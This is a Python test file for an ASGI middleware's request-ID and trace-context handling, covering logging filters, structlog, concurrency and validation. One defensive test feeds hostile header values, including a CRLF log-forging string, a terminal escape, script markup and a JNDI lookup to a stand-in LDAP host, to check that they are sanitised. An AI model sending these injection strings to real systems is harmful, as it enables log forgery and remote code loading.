"""The ids of the request being served: functions, a logging filter, a structlog processor."""

import contextvars
import logging
import threading
from typing import Any

import anyio
import pytest
import structlog
from structlog.testing import CapturingLogger

from asgisec import RequestID, RequestIDFilter, SecurityMiddleware, add_request_id, request_id, trace_id, traceparent
from asgisec.errors import ConfigError
from tests.asgi import Message, answering, drive, request, scope_of

TRACE, SPAN = "4bf92f3577b34da6a3ce929d0e0e4736", "00f067aa0ba902b7"
ID = [("host", "testserver"), ("x-request-id", "from-gateway"), ("traceparent", f"00-{TRACE}-{SPAN}-01")]


def inside(look: Any, headers: Any = ID, policy: RequestID | None = None) -> list[Any]:
    """What `look` returns while a request is served, before and after the response starts."""
    seen: list[Any] = []

    async def app(scope: Message, receive: Any, send: Any) -> None:
        seen.append(look())
        await answering()(scope, receive, send)
        seen.append(look())

    recorded = request(SecurityMiddleware(app, policy or RequestID()), headers=headers)
    assert recorded.error is None
    return seen


@pytest.mark.parametrize("look", [request_id, trace_id, traceparent])
def test_outside_of_a_request_there_is_no_id(look: Any) -> None:
    assert look() is None


def test_inside_of_a_request() -> None:
    assert inside(request_id) == ["from-gateway"] * 2
    assert inside(trace_id) == [TRACE] * 2


def test_what_is_sent_on_continues_the_trace_with_a_span_of_its_own() -> None:
    first, second = inside(traceparent)
    assert first == second
    version, trace, span, flags = first.split("-")
    assert (version, trace, flags) == ("00", TRACE, "01")
    assert span != SPAN
    assert len(span) == 16


@pytest.mark.parametrize(
    "headers",
    [
        pytest.param([], id="none"),
        pytest.param([("traceparent", f"ff-{TRACE}-{SPAN}-01")], id="invalid"),
        pytest.param([("traceparent", f"00-{TRACE}-{SPAN}-01")] * 2, id="twice"),
    ],
)
def test_a_trace_begins_where_there_is_none_to_continue(headers: Any) -> None:
    (sent, _) = inside(traceparent, headers)
    version, trace, _, flags = sent.split("-")
    assert version == "00"
    assert trace != TRACE
    assert len(trace) == 32
    assert flags == "00"


def test_flags_that_are_not_defined_are_not_sent_on() -> None:
    (sent, _) = inside(traceparent, [("traceparent", f"00-{TRACE}-{SPAN}-fe")])
    assert sent.endswith("-00")


def test_an_edge_that_trusts_nobody_continues_no_trace() -> None:
    policy = RequestID(trust_inbound=False)
    assert TRACE not in inside(trace_id, policy=policy)
    assert "from-gateway" not in inside(request_id, policy=policy)


@pytest.mark.parametrize("backend", ["asyncio", "trio"])
def test_the_context_is_as_before_when_the_request_is_over(backend: str) -> None:
    before: list[Any] = []
    app = SecurityMiddleware(answering(), RequestID())

    async def around(scope: Message, receive: Any, send: Any) -> None:
        await app(scope, receive, send)
        before.append((request_id(), trace_id(), traceparent()))

    request(around, backend=backend)
    assert before == [(None, None, None)]


@pytest.mark.parametrize("backend", ["asyncio", "trio"])
def test_concurrent_requests_see_their_own_ids(backend: str) -> None:
    seen: dict[str, tuple[Any, ...]] = {}
    met: list[str] = []

    async def run() -> None:
        everybody = anyio.Event()

        async def app(scope: Message, receive: Any, send: Any) -> None:
            met.append(scope["path"])
            if len(met) == 5:
                everybody.set()
            await everybody.wait()
            in_thread = await anyio.to_thread.run_sync(request_id)
            seen[scope["path"]] = request_id(), in_thread, scope["state"]["request_id"]
            await answering()(scope, receive, send)

        secured = SecurityMiddleware(app, RequestID())

        async def one(path: str) -> None:
            async def receive() -> Message:
                return {"type": "http.request"}

            async def send(message: Message) -> None:
                await anyio.lowlevel.checkpoint()

            await secured(scope_of(path=path, headers=[("x-request-id", path[1:])]), receive, send)

        async with anyio.create_task_group() as group:
            for number in range(5):
                group.start_soon(one, f"/{number}")

    anyio.run(run, backend=backend)
    assert seen == {f"/{n}": (f"{n}",) * 3 for n in range(5)}


def test_a_request_that_is_closed_from_another_context_harms_nobody() -> None:
    async def app(scope: Message, receive: Any, send: Any) -> None:
        await receive()

    async def never() -> Message:
        await anyio.sleep_forever()
        raise AssertionError

    async def send(message: Message) -> None:
        raise AssertionError

    async def run() -> None:
        serving = SecurityMiddleware(app, RequestID())(scope_of(), never, send)
        contextvars.copy_context().run(serving.send, None)
        serving.close()
        assert request_id() is None

    anyio.run(run)


def record_of(filter_: logging.Filter, name: str = "app") -> tuple[bool, Any]:
    record = logging.LogRecord(name, logging.INFO, __file__, 1, "hello", None, None)
    return bool(filter_.filter(record)), record


def test_log_records_carry_the_ids() -> None:
    ((passed, record), _) = inside(lambda: record_of(RequestIDFilter()))
    assert passed
    assert (record.request_id, record.trace_id) == ("from-gateway", TRACE)


@pytest.mark.parametrize(
    ("options", "shown"),
    [
        pytest.param({}, "-", id="default"),
        pytest.param({"default": "none"}, "none", id="another word"),
        pytest.param({"default": ""}, "", id="nothing"),
    ],
)
def test_log_records_outside_of_requests_carry_a_word_never_none(options: Any, shown: str) -> None:
    _, record = record_of(RequestIDFilter(**options))
    assert (record.request_id, record.trace_id) == (shown, shown)


def test_a_late_record_still_formats() -> None:
    formatter = logging.Formatter("[%(request_id)s] %(message)s")
    _, record = record_of(RequestIDFilter())
    assert formatter.format(record) == "[-] hello"


def test_the_filter_cuts_ids_and_lets_only_its_logger_pass() -> None:
    ((passed, record), _) = inside(lambda: record_of(RequestIDFilter("app.db", length=4)))
    assert not passed
    assert record.request_id == "from"
    ((passed, _), _) = inside(lambda: record_of(RequestIDFilter("app.db"), "app.db.pool"))
    assert passed


@pytest.mark.parametrize(
    ("options", "message"),
    [
        pytest.param({"default": None}, "RequestIDFilter(default=) got None: ", id="no default"),
        pytest.param({"default": "a\nb"}, r"RequestIDFilter(default=) got 'a\nb': ", id="a line break"),
        pytest.param({"default": 5}, "RequestIDFilter(default=) got 5: ", id="a number as default"),
        pytest.param({"length": 0}, "RequestIDFilter(length=) got 0: ", id="length 0"),
        pytest.param({"length": -1}, "RequestIDFilter(length=) got -1: ", id="length below 0"),
        pytest.param({"length": True}, "RequestIDFilter(length=) got True: ", id="length is a bool"),
        pytest.param({"length": "8"}, "RequestIDFilter(length=) got '8': ", id="length is text"),
    ],
)
def test_wrong_options_of_the_filter(options: Any, message: str) -> None:
    with pytest.raises(ConfigError) as caught:
        RequestIDFilter(**options)
    assert str(caught.value).startswith(message)
    assert "write " in caught.value.mend


def structlog_event(**values: Any) -> Any:
    """What structlog, configured as its users do, gives to the logger."""
    logger = CapturingLogger()
    wrapped = structlog.wrap_logger(
        logger, processors=[add_request_id, structlog.processors.KeyValueRenderer(sort_keys=True)]
    )
    wrapped.info("hello", **values)
    return logger.calls[0].args[0]


def test_structlog_events_carry_the_ids() -> None:
    assert inside(structlog_event) == [f"event='hello' request_id='from-gateway' trace_id='{TRACE}'"] * 2


def test_structlog_events_keep_ids_of_their_own() -> None:
    (line, _) = inside(lambda: structlog_event(request_id="mine"))
    assert line == f"event='hello' request_id='mine' trace_id='{TRACE}'"


def test_structlog_events_outside_of_requests_stay_as_they_are() -> None:
    assert structlog_event() == "event='hello'"


@pytest.mark.parametrize(
    "inbound",
    [
        pytest.param(b"a\r\nERROR forged line", id="line break"),
        pytest.param(b"a\x00b", id="NUL"),
        pytest.param(b"\x1b[31mred", id="terminal escape"),
        pytest.param(b"\xff\xfe", id="invalid UTF-8"),
        pytest.param("a\u2028b".encode(), id="line separator"),
        pytest.param(b"a b", id="space"),
        pytest.param(b"x" * 129, id="too long"),
        pytest.param(b"", id="empty"),
        pytest.param(b'"><script>', id="markup"),
        pytest.param(b"${jndi:ldap://evil.test}", id="a lookup"),
    ],
)
def test_an_id_that_is_not_well_formed_never_reaches_a_log(inbound: bytes) -> None:
    found: list[Any] = []

    async def app(scope: Message, receive: Any, send: Any) -> None:
        found.extend((record_of(RequestIDFilter())[1].request_id, structlog_event(), scope["state"]["request_id"]))
        await answering()(scope, receive, send)

    recorded = drive(SecurityMiddleware(app, RequestID()), scope_of(headers=[("x-request-id", inbound)]))
    (sent,) = recorded.values("x-request-id")
    assert found[0] == found[2] == sent
    assert len(sent) == 32
    assert f"request_id='{sent}'" in found[1]


def test_threads_started_with_the_context_see_the_id() -> None:
    def look() -> list[Any]:
        seen: list[Any] = []
        thread = threading.Thread(target=contextvars.copy_context().run, args=(lambda: seen.append(request_id()),))
        thread.start()
        thread.join()
        return seen

    assert inside(look)[0] == ["from-gateway"]
